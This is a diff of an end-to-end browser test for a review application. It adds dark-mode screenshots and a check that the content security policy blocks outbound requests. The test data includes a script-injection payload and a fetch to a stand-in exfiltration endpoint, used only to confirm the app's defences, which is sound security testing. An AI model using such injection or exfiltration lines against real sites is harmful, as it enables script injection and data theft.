@@ -48,6 +48,9 @@ describe(`review from the keyboard (${process.env['COUNTERSIGN_E2E_DRIVER'] ?? '
       const pendingBefore = Number(await page.getByTestId('pending-count').locator('strong').innerText())
       expect(pendingBefore).toBeGreaterThanOrEqual(60)
       await page.screenshot({ path: join(screenshots, 'review-screen.png') })
+      await page.emulateMedia({ colorScheme: 'dark' })
+      await page.screenshot({ path: join(screenshots, 'review-screen-dark.png') })
+      await page.emulateMedia({ colorScheme: 'light' })
 
       const titles = await page.locator('.queue-row-title').allInnerTexts()
       await page.keyboard.press('j')
@@ -146,6 +149,8 @@ describe(`review from the keyboard (${process.env['COUNTERSIGN_E2E_DRIVER'] ?? '
       await expect(page.locator('.case-view img, .case-view script, .queue img, .app-bar b').count()).resolves.toBe(0)
       await expect(page.locator('.diff-editor').innerText()).resolves.toContain('<script>window.__pwned=2</script>')
       await expect(page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).resolves.toBeUndefined()
+      // The CSP lets nothing reach the network, and would refuse injected inline script.
+      await expect(page.evaluate(() => fetch('http://203.0.113.7/exfiltrate').then(() => 'sent', () => 'blocked'))).resolves.toBe('blocked')
       await page.screenshot({ path: join(screenshots, 'hostile-content-as-text.png') })
     } finally {
       await session.close()
